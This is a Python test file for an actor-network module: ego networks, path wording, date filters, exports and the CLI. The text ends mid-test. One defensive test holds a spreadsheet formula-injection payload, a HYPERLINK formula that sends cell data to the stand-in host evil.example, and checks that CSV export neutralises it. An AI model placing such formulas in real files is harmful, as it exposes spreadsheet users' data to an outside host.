"""The actor network: ego networks, paths and their words, filters, caps, structure, growth,
exports, the `network` command, and that internal people never appear.

The small network is tests/data/network/small-network.trig; its header draws it, and the
expected node sets below are worked out by hand from that drawing.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import random
from collections import Counter
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import networkx as nx
import pytest

from akteursgraph import network
from akteursgraph.errors import UsageError
from akteursgraph.network.wording import explain_steps
from akteursgraph.operations import init_store, load_files
from akteursgraph.store import Store

from .conftest import DATA, run_cli

SMALL = DATA / "network" / "small-network.trig"
ORG = "https://w3id.org/akteursgraph/mitte/example/organisation/"
PERSON = "https://w3id.org/akteursgraph/mitte/example/person/"
PROJECT = "https://w3id.org/akteursgraph/mitte/example/project/"
EVENT = "https://w3id.org/akteursgraph/mitte/example/event/"
SITE = "https://w3id.org/akteursgraph/mitte/example/site/"
TOPIC = "https://w3id.org/akteursgraph/vocab/topic/"

NORD, ALPHA, BETA = ORG + "netz-nord", ORG + "verein-alpha", ORG + "verein-beta"
GAMMA, DELTA, EPSILON = ORG + "initiative-gamma", ORG + "stiftung-delta", ORG + "haus-epsilon"
EINS, ZWEI, DREI = PERSON + "person-eins", PERSON + "person-zwei", PERSON + "person-drei"
INTERN = PERSON + "person-intern"
PROJECT_FH = PROJECT + "fairer-handel-nord"
READING = EVENT + "lesung-kolonialgeschichte"
STREET = SITE + "beispielstrasse"
COLONIAL_ACTOR, RESISTANCE = PERSON + "kolonialakteur", PERSON + "widerstandskaempferin"
KOORDINATIONSSTELLE = (
    "https://w3id.org/akteursgraph/mitte/organisation/koordinationsstelle-entwicklungspolitik"
)


@pytest.fixture(scope="module")
def small_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    path = tmp_path_factory.mktemp("network") / "store"
    store, _ = init_store(path, agent="test")
    load_files(store, [SMALL], agent="test")
    yield store
    store.close()


@pytest.fixture(scope="module")
def small(small_store: Store) -> nx.MultiDiGraph:
    return network.build_network(small_store)


@pytest.fixture(scope="module")
def example_net(example_store_template: Path) -> Iterator[nx.MultiDiGraph]:
    with Store.open(example_store_template, read_only=True) as store:
        yield network.build_network(store)


def ids(ego: dict) -> set[str]:
    return {n["id"] for n in ego["nodes"]}


# ---- (a) the small network, by hand ---------------------------------------------------------


def test_nodes_and_attributes(small: nx.MultiDiGraph) -> None:
    kinds = Counter(d["kind"] for _, d in small.nodes(data=True))
    assert kinds["organisations"] == 6
    assert kinds["people"] == 3
    assert kinds["historical-persons"] == 2
    assert (kinds["projects"], kinds["events"], kinds["sites"]) == (1, 1, 1)
    alpha = small.nodes[ALPHA]
    assert alpha["label_de"] == network.label(alpha, "de") == "Verein Alpha (Test)"
    assert alpha["label_en"] == "Association Alpha (test)"
    assert (alpha["iri"], alpha["start"], alpha["end"]) == (ALPHA, "2010", "")
    for _, _, data in small.edges(data=True):
        assert set(data) == {"kind", "label_de", "label_en", "start", "end", "via"}
        assert all(isinstance(v, str) for v in data.values())
    membership = small.get_edge_data(EINS, ALPHA)
    (data,) = membership.values()
    assert data["kind"] == "membership"
    assert data["via"].endswith("/membership/person-eins-in-verein-alpha")
    assert (data["label_de"], data["label_en"], data["start"]) == ("Vorsitz", "Chair", "2016")


def test_english_labels(small: nx.MultiDiGraph) -> None:
    assert network.label(small.nodes[DELTA], "en") == "Delta Foundation (test)"
    # A naming's name exists only in German: English falls back to it.
    (honours,) = small.get_edge_data(STREET, COLONIAL_ACTOR).values()
    assert network.label(honours, "en") == "Alte Beispielstraße"
    with pytest.raises(UsageError):
        network.label(honours, "fr")
    ego = network.ego_network(small, DELTA, lang="en")
    assert ego is not None
    assert {n["id"]: n["label"] for n in ego["nodes"]}[DELTA] == "Delta Foundation (test)"


def test_edge_kinds_by_hand(small: nx.MultiDiGraph) -> None:
    found = Counter(d["kind"] for _, _, d in small.edges(data=True))
    assert found == {
        "membership": 4,  # alpha, beta -> nord; eins -> alpha; zwei -> delta
        "cooperation": 2,  # beta-gamma, gamma-delta
        "organiser": 2,  # gamma -> project, epsilon -> reading
        "performer": 1,  # drei -> reading
        "part_of": 2,  # beta, gamma -> project through their cooperation
        "topic": 6,  # alpha, epsilon, reading, drei (profile); beta, gamma (cooperation)
        "honours": 2,  # the street's two names
    }
    pairs = {frozenset((a, b)) for a, b, d in small.edges(data=True) if d["kind"] == "cooperation"}
    assert pairs == {frozenset({BETA, GAMMA}), frozenset({GAMMA, DELTA})}


def test_ego_depth_1_and_2(small: nx.MultiDiGraph) -> None:
    ego = network.ego_network(small, ALPHA, depth=1)
    assert ego is not None
    assert ego["center"] == ALPHA and ego["nodes"][0]["id"] == ALPHA
    assert ids(ego) == {ALPHA, NORD, EINS, TOPIC + "anti-racism"}
    assert ego["counts"] == {"nodes": 4, "edges": 3}
    assert ego["omitted"] == {"nodes": 0, "edges": 0}
    assert {n["id"]: n["distance"] for n in ego["nodes"]}[NORD] == 1

    ego2 = network.ego_network(small, ALPHA, depth=2)
    assert ids(ego2) == {ALPHA, NORD, EINS, TOPIC + "anti-racism", BETA}
    assert {n["id"]: n["distance"] for n in ego2["nodes"]}[BETA] == 2

    gamma2 = network.ego_network(small, GAMMA, depth=2)
    assert ids(gamma2) == {
        GAMMA,
        BETA,
        DELTA,
        PROJECT_FH,
        TOPIC + "fair-trade",  # depth 1
        NORD,
        ZWEI,  # depth 2
    }
    edge = next(
        e
        for e in gamma2["edges"]
        if e["kind"] == "cooperation" and DELTA in (e["source"], e["target"])
    )
    assert (edge["start"], edge["end"], edge["label"]) == (
        "2015",
        "2018",
        "Kooperation Gamma–Delta (Test)",
    )
    assert set(edge) == {"source", "target", "kind", "label", "start", "end", "via"}


def test_ego_filters_by_kind(small: nx.MultiDiGraph) -> None:
    only_coop = network.ego_network(small, GAMMA, depth=2, edge_kinds=["cooperation"])
    assert ids(only_coop) == {GAMMA, BETA, DELTA}
    organisations = network.ego_network(small, GAMMA, depth=2, node_kinds=["organisations"])
    assert ids(organisations) == {GAMMA, BETA, DELTA, NORD}
    # The centre is shown even when its kind is not chosen.
    assert ids(network.ego_network(small, EINS, node_kinds=["organisations"])) == {EINS, ALPHA}
    with pytest.raises(UsageError):
        network.ego_network(small, GAMMA, edge_kinds=["friendship"])
    with pytest.raises(UsageError):
        network.ego_network(small, GAMMA, node_kinds=["cats"])
    with pytest.raises(UsageError):
        network.ego_network(small, GAMMA, depth=4)
    assert network.ego_network(small, ORG + "unknown") is None
    assert network.ego_network(small, INTERN) is None


def test_as_of_keeps_links_whose_period_contains_it(small: nx.MultiDiGraph) -> None:
    # The cooperation with Delta ended in 2018: gone as of 2020, there as of 2017.
    assert ids(network.ego_network(small, GAMMA, as_of="2020")) == {
        GAMMA,
        BETA,
        PROJECT_FH,
        TOPIC + "fair-trade",
    }
    # In 2017 the cooperation with Beta (2019-03-01-) and the project (2020-) had not begun.
    assert ids(network.ego_network(small, GAMMA, as_of="2017")) == {GAMMA, DELTA}
    assert DELTA in ids(network.ego_network(small, GAMMA, as_of="2018-12-31"))
    assert DELTA not in ids(network.ego_network(small, GAMMA, as_of="2019-01"))
    assert BETA not in ids(network.ego_network(small, GAMMA, as_of="2019-02"))
    assert BETA in ids(network.ego_network(small, GAMMA, as_of="2019-03"))
    # Undated links are always kept (Person Zwei's membership has no dates).
    assert ZWEI in ids(network.ego_network(small, DELTA, as_of="1990"))
    # Namings: the old name until 2020, the new one from 2021.
    assert ids(network.ego_network(small, STREET, as_of="2022")) == {STREET, RESISTANCE}
    assert ids(network.ego_network(small, STREET, as_of="1950")) == {STREET, COLONIAL_ACTOR}
    for bad in ("gestern", "20", "2019-5", "2019-05-01T10:00"):
        with pytest.raises(UsageError):
            network.ego_network(small, GAMMA, as_of=bad)


def test_a_running_link_with_an_end_this_year_keeps_its_end_in_words() -> None:
    """Exploratory test: a membership from 2022 to this year read "ist seit 2022 Mitglied",
    dropping the end that the member's page names ("Mitglied 26. November 2022 – 2026")."""
    this_year = str(date.today().year)
    net = nx.MultiDiGraph()
    for node in ("A", "B"):
        net.add_node(node, kind="organisations", label_de=node, label_en=node)
    link = {"kind": "membership", "start": "2022-11-26", "end": this_year, "via": "",
            "label_de": "", "label_en": ""}  # fmt: skip
    assert explain_steps(net, [("A", "B", True, link)]) == {
        "de": f"A ist von 2022 bis {this_year} Mitglied von B.",
        "en": f"A is a member of B from 2022 to {this_year}.",
    }
    link["end"] = ""  # still running, no end: since
    assert explain_steps(net, [("A", "B", True, link)])["de"] == "A ist seit 2022 Mitglied von B."
    # A member's role is named as the role: "Mitglied von B (Gründer*in)" read as B's.
    link.update(label_de="Gründer*in", label_en="Founder")
    assert explain_steps(net, [("A", "B", True, link)]) == {
        "de": "A ist seit 2022 Mitglied von B (Rolle: Gründer*in).",
        "en": "A has been a member of B (role: Founder) since 2022.",
    }
    assert explain_steps(net, [("B", "A", False, link)])["de"] == (
        "B hat seit 2022 A als Mitglied (Rolle: Gründer*in)."
    )


def test_two_running_cooperations_say_since_the_earlier() -> None:
    """Two cooperations of a pair, of 2017 and of 2021, both running: the path read
    "kooperiert seit 2021", false of a pair that has worked together since 2017 (exploratory
    test). A running one is told before an ended one, whatever their years."""
    net = nx.MultiDiGraph()
    for node in ("A", "B"):
        net.add_node(node, kind="organisations", label_de=node, label_en=node)
    link = {"kind": "cooperation", "end": "", "via": "", "label_de": "", "label_en": ""}
    net.add_edge("A", "B", **link, start="2017-03-01")
    net.add_edge("B", "A", **link, start="2021-05-01")
    net.add_edge("A", "B", **{**link, "start": "2010", "end": "2012"})
    (path,) = network.shortest_paths(net, "A", "B")
    assert path["explanation"]["de"] == "A kooperiert seit 2017 mit B."
    (before,) = network.shortest_paths(net, "A", "B", as_of="2019")
    assert before["explanation"]["de"] == "A kooperiert seit 2017 mit B."
    (early,) = network.shortest_paths(net, "A", "B", as_of="2011")
    assert early["explanation"]["de"] == "A kooperiert von 2010 bis 2012 mit B."
    # A running membership tells the step before an ended cooperation (re-check: "A
    # kooperierte von 2020 bis 2021 mit B" for a member of B since 2024).
    net.add_edge("A", "C", **{**link, "start": "2020", "end": "2021"})
    net.add_node("C", kind="organisations", label_de="C", label_en="C")
    net.add_edge("A", "C", **{**link, "kind": "membership", "start": "2024-07-16"})
    (member,) = network.shortest_paths(net, "A", "C")
    assert member["explanation"]["de"] == "A ist seit 2024 Mitglied von C."


def test_cap_says_what_it_left_out(small: nx.MultiDiGraph) -> None:
    # Depth 3 around Netzwerk Nord reaches 9 nodes: Alpha, Beta (1); Eins, anti-racism,
    # Gamma, the project, fair trade (2); Delta (3); with 11 links among them.
    full = network.ego_network(small, NORD, depth=3)
    assert len(full["nodes"]) == 9 and len(full["edges"]) == 11
    assert full["omitted"] == {"nodes": 0, "edges": 0}

    capped = network.ego_network(small, NORD, depth=3, max_nodes=3)
    assert [n["id"] for n in capped["nodes"]] == [NORD, BETA, ALPHA]  # Beta has more links
    assert capped["counts"] == {"nodes": 3, "edges": 2}
    assert capped["omitted"] == {"nodes": 6, "edges": 9}

    two = network.ego_network(small, NORD, depth=3, max_nodes=2)
    assert [n["id"] for n in two["nodes"]] == [NORD, BETA]
    assert two["omitted"] == {"nodes": 7, "edges": 10}
    with pytest.raises(UsageError):
        network.ego_network(small, NORD, max_nodes=0)


def test_shortest_paths_and_their_words(small: nx.MultiDiGraph) -> None:
    paths = network.shortest_paths(small, ALPHA, GAMMA, k=3)
    # Only two simple paths avoid topics: through Beta directly, or through the project.
    assert [[n["id"] for n in p["nodes"]] for p in paths] == [
        [ALPHA, NORD, BETA, GAMMA],
        [ALPHA, NORD, BETA, PROJECT_FH, GAMMA],
    ]
    first = paths[0]
    assert [e["kind"] for e in first["edges"]] == ["membership", "membership", "cooperation"]
    assert first["explanation"] == {
        "de": "Verein Alpha (Test) ist seit 2015 Mitglied von Netzwerk Nord (Test), "
        "Netzwerk Nord (Test) hat seit 2018 Verein Beta (Test) als Mitglied und "
        "Verein Beta (Test) kooperiert seit 2019 mit Initiative Gamma (Test).",
        "en": "Association Alpha (test) has been a member of North Network (test) since 2015, "
        "North Network (test) has had Association Beta (test) as a member since 2018, and "
        "Association Beta (test) has cooperated with Initiative Gamma (test) since 2019.",
    }
    second = paths[1]
    assert [e["kind"] for e in second["edges"]][2:] == ["part_of", "organiser"]
    assert "wird seit 2020 von Initiative Gamma (Test) organisiert" in second["explanation"]["de"]
    assert "(cooperation “Cooperation Beta–Gamma (test)”)" in second["explanation"]["en"]

    (ended,) = network.shortest_paths(small, GAMMA, DELTA)
    assert ended["explanation"] == {
        "de": "Initiative Gamma (Test) kooperierte von 2015 bis 2018 mit Stiftung Delta (Test).",
        "en": "Initiative Gamma (test) cooperated with Delta Foundation (test) from 2015 to 2018.",
    }
    # As of a time when it ran, the same cooperation is told in the present (audit: as of
    # 2023-01 a cooperation of 2021 to 2023 "kooperierte").
    (running,) = network.shortest_paths(small, GAMMA, DELTA, as_of="2016-05")
    assert running["explanation"] == {
        "de": "Initiative Gamma (Test) kooperiert von 2015 bis 2018 mit Stiftung Delta (Test).",
        "en": "Initiative Gamma (test) cooperates with Delta Foundation (test) from 2015 to 2018.",
    }
    (event,) = network.shortest_paths(small, EPSILON, DREI)
    assert event["explanation"]["de"] == (
        "Haus Epsilon (Test) organisierte 2019 Lesung Kolonialgeschichte (Test) und "
        "Lesung Kolonialgeschichte (Test) hatte 2019 Person Drei (Test) als Referent*in."
    )
    assert event["explanation"]["en"] == (
        "Epsilon House (test) organised Reading on colonial history (test) in 2019, and "
        "Reading on colonial history (test) had Person Three (test) as a speaker in 2019."
    )
    (honour,) = network.shortest_paths(small, STREET, COLONIAL_ACTOR)
    assert honour["explanation"]["de"] == (
        "Beispielstraße (Test) ehrte von 1900 bis 2020 Kolonialakteur (Test) "
        "(Name „Alte Beispielstraße“)."
    )
    (role,) = network.shortest_paths(small, ALPHA, EINS)
    assert role["explanation"]["en"] == (
        "Association Alpha (test) has had Person One (test) as a member (role: Chair) since 2016."
    )


def test_paths_filters_and_edge_cases(small: nx.MultiDiGraph) -> None:
    # As of 2020 the Gamma-Delta cooperation is over; as of 2017 Beta had not joined Nord.
    assert network.shortest_paths(small, GAMMA, DELTA, as_of="2020") == []
    assert network.shortest_paths(small, ALPHA, DELTA, as_of="2017") == []
    assert len(network.shortest_paths(small, ALPHA, DELTA)[0]["nodes"]) == 5
    # Topics are not a way to reach someone unless asked for.
    assert (
        network.shortest_paths(small, EPSILON, DREI, edge_kinds=["topic"])[0]["nodes"][1]["id"]
        == TOPIC + "colonial-history"
    )
    assert network.shortest_paths(small, ALPHA, EPSILON) == []
    assert network.shortest_paths(small, ALPHA, EPSILON, edge_kinds=network.EDGE_KINDS) == []
    assert len(network.shortest_paths(small, ALPHA, GAMMA, k=1)) == 1
    assert network.shortest_paths(small, ALPHA, INTERN) == []
    assert network.shortest_paths(small, ALPHA, ALPHA) == []
    with pytest.raises(UsageError):
        network.shortest_paths(small, ALPHA, GAMMA, k=0)


@pytest.mark.parametrize("seed", range(8))
def test_paths_are_the_k_shortest_simple_ones_as_networkx_finds_them(seed: int) -> None:
    """The path search walks the network itself in both directions (no undirected copy kept
    per filter); networkx's `shortest_simple_paths` on an undirected copy is the reference:
    the same number of paths of the same lengths, each simple, distinct, and made of kept
    links (equally short paths may be chosen otherwise)."""
    rnd = random.Random(seed)
    net = nx.MultiDiGraph()
    nodes = [f"n{i}" for i in range(40)]
    for node in nodes:
        net.add_node(node, kind="organisations", label_de=node, label_en=node, iri=node)
    for _ in range(70):
        a, b = rnd.sample(nodes, 2)
        kind = rnd.choice(["cooperation", "membership", "topic"])
        data = {"kind": kind, "label_de": "", "label_en": "", "start": "", "end": "", "via": ""}
        net.add_edge(a, b, key=f"{kind} {rnd.random()}", **data)
    kept = nx.Graph()
    kept.add_nodes_from(net)
    kept.add_edges_from((a, b) for a, b, kind in net.edges(data="kind") if kind != "topic")
    for _ in range(15):
        a, b = rnd.sample(nodes, 2)
        found = [[n["id"] for n in p["nodes"]] for p in network.shortest_paths(net, a, b, k=4)]
        try:
            expected = list(itertools.islice(nx.shortest_simple_paths(kept, a, b), 4))
        except nx.NetworkXNoPath:
            expected = []
        assert [len(p) for p in found] == [len(p) for p in expected]
        assert len({tuple(p) for p in found}) == len(found)
        for path in found:
            assert path[0] == a and path[-1] == b and len(set(path)) == len(path)
            assert all(kept.has_edge(x, y) for x, y in itertools.pairwise(path))


def test_a_path_told_twice_by_one_link_in_a_row_is_left_out() -> None:
    """Exploratory test: the third of "the 3 shortest" went from A through B to C, both steps
    "(same cooperation)", where the first path linked A and C by that cooperation directly:
    a longer telling of a path already shown. The next path is shown instead."""
    net = nx.MultiDiGraph()
    for node in "ABCDEF":
        net.add_node(node, kind="organisations", label_de=node, label_en=node, iri=node)

    def link(a: str, b: str, via: str) -> None:
        data = {"kind": "cooperation", "label_de": via, "label_en": via, "start": "", "end": ""}
        net.add_edge(a, b, key=f"cooperation {via} {a}{b}", via=via, **data)

    for a, b in (("A", "B"), ("B", "C"), ("A", "C")):
        link(a, b, "X")  # one cooperation of three
    link("A", "D", "Y")
    link("D", "C", "Z")
    link("A", "E", "V")
    link("E", "F", "W")
    link("F", "C", "U")
    found = [[n["id"] for n in p["nodes"]] for p in network.shortest_paths(net, "A", "C", k=3)]
    assert found == [["A", "C"], ["A", "D", "C"], ["A", "E", "F", "C"]]


def test_no_internal_person_in_the_small_network(small: nx.MultiDiGraph) -> None:
    assert INTERN not in small
    assert all("person-intern" not in d["via"] for _, _, d in small.edges(data=True))
    assert small.in_degree(ALPHA) == 1  # Person Eins only; the internal membership is out


def test_growth_by_hand(small_store: Store, small: nx.MultiDiGraph) -> None:
    """Memberships of organisations in others: Person Eins's of 2016 in Alpha is not one
    (the overview as of 2010 said no organisations were linked, its growth that two
    memberships began; exploratory test)."""
    expected = [
        {"year": 2010, "new_organisations": 1, "new_cooperations": 0, "new_memberships": 0},
        {"year": 2015, "new_organisations": 1, "new_cooperations": 1, "new_memberships": 1},
        {"year": 2018, "new_organisations": 0, "new_cooperations": 0, "new_memberships": 1},
        {"year": 2019, "new_organisations": 0, "new_cooperations": 1, "new_memberships": 0},
    ]
    assert network.growth(small) == expected
    assert network.growth(small_store) == expected


def test_growth_as_of_a_day_counts_its_year_up_to_that_day(small_store: Store) -> None:
    """Walk: as of 1 January 2019 the growth counted 2019 whole, a cooperation of October
    among it, while the structure beside it left that cooperation out. A date recorded as a
    year or a month counts from its first day ("may have begun then", as links count)."""
    cache = network.NetworkCache(small_store)
    years = {r["year"]: r for r in cache.growth()}
    assert years[2019]["new_cooperations"] == 1  # begun 2019-03-01
    assert 2019 not in {r["year"] for r in cache.growth("2019-02")}
    assert 2019 not in {r["year"] for r in cache.growth("28.02.2019")}
    assert cache.growth("01.03.2019")[-1] == years[2019]
    assert cache.growth("2019") == cache.growth("2019-12-31") == cache.growth()
    # Alpha founded 2015-04-01; the 2015 cooperation and Alpha's membership dated "2015"
    assert cache.growth("2015-03")[-1] == {
        "year": 2015, "new_organisations": 0, "new_cooperations": 1, "new_memberships": 1,
    }  # fmt: skip
    assert cache.growth("2018-08")[-1]["year"] == 2015  # Beta's membership began 2018-09
    assert cache.latest_growth("2019-02") == (cache.growth("2019-02"), True)


def test_structure_of_the_small_network(small: nx.MultiDiGraph) -> None:
    result = network.structure(small, "de")
    assert result["organisations"] == 6 and result["links"] == 4
    degree = {r["iri"]: r["score"] for r in result["degree"]["ranking"]}
    assert degree == {BETA: 0.4, GAMMA: 0.4, NORD: 0.4, ALPHA: 0.2, DELTA: 0.2}
    assert EPSILON not in degree  # no links to other organisations: not ranked
    between = result["betweenness"]["ranking"]
    assert between[0]["iri"] == BETA  # the only way from Nord's side to Gamma's
    for block in ("degree", "betweenness"):
        assert set(result[block]["explanation"]) == {"de", "en"}
    members = sorted(len(c["members"]) for c in result["communities"])
    assert sum(members) == 5 and all(m >= 2 for m in members)
    topics = {t["iri"]: t["organisations"] for t in result["topics"]["ranking"]}
    assert topics[TOPIC + "fair-trade"] == 2 and topics[TOPIC + "colonial-history"] == 1
    (pair,) = result["topics"]["pairs"]
    assert {pair["a"]["iri"], pair["b"]["iri"]} == {BETA, GAMMA}
    assert pair["shared"] == 1 and pair["linked"] is True and pair["topics"] == ["Fairer Handel"]


def test_audit_10_the_structure_chooses_alike_whatever_the_labels() -> None:
    """Rankings, bridges and communities broke ties by the label in the page's language, so
    German and English could rank, cut and name differently. Two equal paths a - h - b, every
    organisation on the same four topics, the German labels sorting in IRI order and the
    English ones the other way: both languages choose and order by IRI."""
    net = nx.MultiDiGraph()
    orgs = [f"{ORG}{side}{i}" for i in (1, 2) for side in ("a", "h", "b")]
    topics = [f"{TOPIC}t{i}" for i in range(1, 5)]
    for rank, iri in enumerate(sorted(orgs + topics)):
        kind = "topics" if iri in topics else "organisations"
        net.add_node(iri, kind=kind, label_de=f"{rank:02d}", label_en=f"{99 - rank:02d}", start="")
    for i in (1, 2):
        for side in ("a", "b"):
            net.add_edge(f"{ORG}{side}{i}", f"{ORG}h{i}", kind="cooperation", via=f"c{side}{i}")
    for org in orgs:
        for topic in topics:
            net.add_edge(org, topic, kind="topic", via="")

    def chosen(lang: str) -> dict[str, list]:
        found = network.structure(net, lang)
        return {
            "degree": [r["iri"] for r in found["degree"]["ranking"]],
            "betweenness": [r["iri"] for r in found["betweenness"]["ranking"]],
            "bridges": [r["iri"] for r in found["bridges"]["ranking"]],
            "communities": [
                (c["central"]["iri"], [m["iri"] for m in c["members"]], c["topic_iris"])
                for c in found["communities"]
            ],
            "topics": [t["iri"] for t in found["topics"]["ranking"]],
        }

    german = chosen("de")
    assert chosen("en") == german
    hubs = [ORG + "h1", ORG + "h2"]
    assert german["bridges"] == german["betweenness"] == hubs
    assert german["degree"][:2] == hubs
    assert german["degree"][2:] == sorted(set(orgs) - set(hubs))
    assert [c[0] for c in german["communities"]] == hubs
    assert all(c[2] == topics[:3] for c in german["communities"])
    assert german["topics"] == topics


def test_cache_rebuilds_after_invalidate(tmp_path: Path) -> None:
    store, _ = init_store(tmp_path / "store", agent="test")
    with store:
        cache = network.NetworkCache(store)
        before = cache.graph()
        assert not [n for n, d in before.nodes(data=True) if d["kind"] == "organisations"]
        load_files(store, [SMALL], agent="test")
        assert cache.graph() is before  # kept until told
        cache.invalidate()
        after = cache.graph()
        assert after is not before and GAMMA in after
        assert after.nodes[DELTA]["label_en"] == "Delta Foundation (test)"
        assert cache.structure("de")["organisations"] == 6
        assert cache.growth()[0]["year"] == 2010
        assert cache.version == 1


# ---- (b) exports, re-read --------------------------------------------------------------------


def _edge_multiset(graph: nx.MultiDiGraph) -> Counter[tuple[str, str, str]]:
    return Counter((a, b, d["kind"]) for a, b, d in graph.edges(data=True))


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_graph_exports_read_back_node_for_node(
    small: nx.MultiDiGraph, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"net.{fmt}"
    counts = network.export_network(small, fmt, out)
    assert counts == {"nodes": small.number_of_nodes(), "edges": small.number_of_edges()}
    back = nx.read_graphml(out) if fmt == "graphml" else nx.read_gexf(out)
    assert set(back.nodes) == set(small.nodes)
    for node, data in small.nodes(data=True):
        assert back.nodes[node]["label"] == data["label_de"]
        assert back.nodes[node]["kind"] == data["kind"]
        assert back.nodes[node]["label_en"] == data["label_en"]
    assert back.number_of_edges() == small.number_of_edges()
    assert _edge_multiset(back) == _edge_multiset(small)
    labels = Counter((a, b, d.get("label", "")) for a, b, d in back.edges(data=True))
    assert labels == Counter((a, b, d["label_de"]) for a, b, d in small.edges(data=True))
    dated = [d for _, _, d in back.edges(data=True) if d["kind"] == "cooperation"]
    if fmt == "graphml":
        assert {(d["start"], d["end"]) for d in dated} == {("2019-03-01", ""), ("2015", "2018")}
    else:
        # GEXF: recorded dates as attributes, Gephi's timeline as whole days.
        assert {(d["start_date"], d["end_date"]) for d in dated} == {
            ("2019-03-01", ""),
            ("2015", "2018"),
        }
        ended = next(d for d in dated if d["end_date"])
        assert (ended["start"], ended["end"]) == ("2015-01-01", "2018-12-31")
        assert 'label="Verein Alpha (Test)"' in out.read_text(encoding="utf-8")


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_a_label_with_a_control_character_leaves_the_xml_readable(
    small: nx.MultiDiGraph, tmp_path: Path, fmt: str
) -> None:
    """Audit: one label with a control character (U+0008, U+001B from a pasted text) made
    the whole GraphML and GEXF download unreadable ("not well-formed"); the character XML
    cannot hold is left out, the rest of the label stays."""
    graph = small.copy()
    node = next(iter(graph.nodes))
    graph.nodes[node]["label_de"] = "Steuer\x08zeichen\x1bVerein"
    graph.nodes[node]["label_en"] = "Tab\tand\x0cform feed"
    a, b, key = next(iter(graph.edges(keys=True)))
    graph.edges[a, b, key]["label_de"] = "Kante\x00null"
    out = tmp_path / f"net.{fmt}"
    network.export_network(graph, fmt, out)
    back = nx.read_graphml(out) if fmt == "graphml" else nx.read_gexf(out)
    assert back.nodes[node]["label"] == "SteuerzeichenVerein"
    assert back.nodes[node]["label_en"] == "Tab\tandform feed"
    assert "Kantenull" in {d.get("label", "") for _, _, d in back.edges(data=True)}


def test_ego_export_reads_back(small: nx.MultiDiGraph, tmp_path: Path) -> None:
    ego = network.ego_network(small, GAMMA, depth=2)
    for fmt, reader in (("graphml", nx.read_graphml), ("gexf", nx.read_gexf)):
        buffer = io.BytesIO()
        network.export_network(ego, fmt, buffer)
        path = tmp_path / f"ego.{fmt}"
        path.write_bytes(buffer.getvalue())
        back = reader(path)
        assert set(back.nodes) == ids(ego)
        assert {n: back.nodes[n]["label"] for n in back} == {
            n["id"]: n["label"] for n in ego["nodes"]
        }
        assert back.nodes[GAMMA]["distance"] == "0"
        assert Counter((a, b, d["kind"]) for a, b, d in back.edges(data=True)) == Counter(
            (e["source"], e["target"], e["kind"]) for e in ego["edges"]
        )


def test_csv_and_json_exports_parse(small: nx.MultiDiGraph, tmp_path: Path) -> None:
    counts = network.export_network(small, "csv", tmp_path / "net.csv")
    nodes_path, edges_path = tmp_path / "net-nodes.csv", tmp_path / "net-edges.csv"
    assert network.csv_paths(tmp_path / "net.csv") == (nodes_path, edges_path)
    with nodes_path.open(encoding="utf-8", newline="") as fh:
        nodes = list(csv.DictReader(fh))
    with edges_path.open(encoding="utf-8", newline="") as fh:
        edges = list(csv.DictReader(fh))
    assert len(nodes) == counts["nodes"] and len(edges) == counts["edges"]
    assert {r["id"]: r["kind"] for r in nodes} == dict(small.nodes(data="kind"))
    assert Counter((r["source"], r["target"], r["kind"]) for r in edges) == _edge_multiset(small)
    assert list(edges[0]) == [
        "source",
        "target",
        "kind",
        "label",
        "label_de",
        "label_en",
        "start",
        "end",
        "via",
    ]

    buffer = io.BytesIO()
    network.export_network(small, "json", buffer)
    data = json.loads(buffer.getvalue().decode("utf-8"))
    assert {n["id"] for n in data["nodes"]} == set(small.nodes)
    assert len(data["edges"]) == small.number_of_edges()
    assert all(e["kind"] in network.EDGE_KINDS for e in data["edges"])

    with pytest.raises(UsageError):
        network.export_network(small, "csv", io.BytesIO())
    with pytest.raises(UsageError):
        network.export_network(small, "dot", io.BytesIO())


def test_a_site_is_named_as_it_was_at_the_time_asked_for(example_net: nx.MultiDiGraph) -> None:
    """As of 2015 the square was the Nachtigalplatz: the network of that time named it by its
    name of 2022 (exploratory walk). Today's name stands beside the old one; where both were
    in force within the time asked for, and without a time, today's alone."""
    square = "https://w3id.org/akteursgraph/mitte/site/manga-bell-platz"

    def named(as_of: str | None, lang: str) -> str:
        ego = network.ego_network(example_net, square, as_of=as_of, lang=lang)
        assert ego is not None
        return next(n["label"] for n in ego["nodes"] if n["id"] == square)

    assert named("2015", "de") == "Nachtigalplatz (heute Manga-Bell-Platz)"
    assert named("1950-06", "en") == "Nachtigalplatz (today Manga-Bell-Platz)"
    assert named("2022", "de") == named("2023", "de") == named(None, "de") == "Manga-Bell-Platz"
    street = "https://w3id.org/akteursgraph/mitte/site/anna-mungunda-allee"
    ego = network.ego_network(example_net, street, as_of="2015", lang="de")
    assert ego is not None and ego["nodes"][0]["label"].startswith("Petersallee (heute ")


def test_csv_export_writes_no_formula(small: nx.MultiDiGraph, tmp_path: Path) -> None:
    """A name that begins like a formula is written with an apostrophe in front, so that a
    spreadsheet opening the download shows it and runs nothing (CWE-1236)."""
    graph = small.copy()
    names = {
        ALPHA: '=HYPERLINK("https://evil.example/?x="&A1;"Klick")',
        GAMMA: "@SUM(1+1)",
        DELTA: "+49 30 1234",
        EPSILON: "-2+3",
    }
    for node, name in names.items():
        graph.nodes[node]["label_de"] = name
    network.export_network(graph, "csv", tmp_path / "net.csv")
    with (tmp_path / "net-nodes.csv").open(encoding="utf-8", newline="") as fh:
        nodes = {r["id"]: r for r in csv.DictReader(fh)}
    for node, name in names.items():
        assert nodes[node]["label_de"] == "'" + name
        assert nodes[node]["label"] == "'" + name  # the label of the export's language
    others = set(nodes) - set(names)
    assert others and all(nodes[n]["label_de"] == small.nodes[n]["label_de"] for n in others)
    assert nodes[ALPHA]["label_en"] == small.nodes[ALPHA]["label_en"]


# ---- (c) the CLI ---------------------------------------------------------------------------


def test_cli_network_exports_the_example(example_store_path: Path, tmp_path: Path) -> None:
    out = tmp_path / "mitte.graphml"
    result = run_cli(
        "network", "--format", "graphml", "--output", str(out), store=example_store_path
    )
    assert result.returncode == 0, result.stderr
    assert "nodes and edges" in result.stderr
    graph = nx.read_graphml(out)
    assert graph.nodes[KOORDINATIONSSTELLE]["label"] == (
        "Koordinationsstelle für kommunale Entwicklungspolitik"
    )
    assert graph.nodes[KOORDINATIONSSTELLE]["kind"] == "organisations"
    assert not list(tmp_path.glob("*.part"))

    english = run_cli(
        "network",
        "--format",
        "gexf",
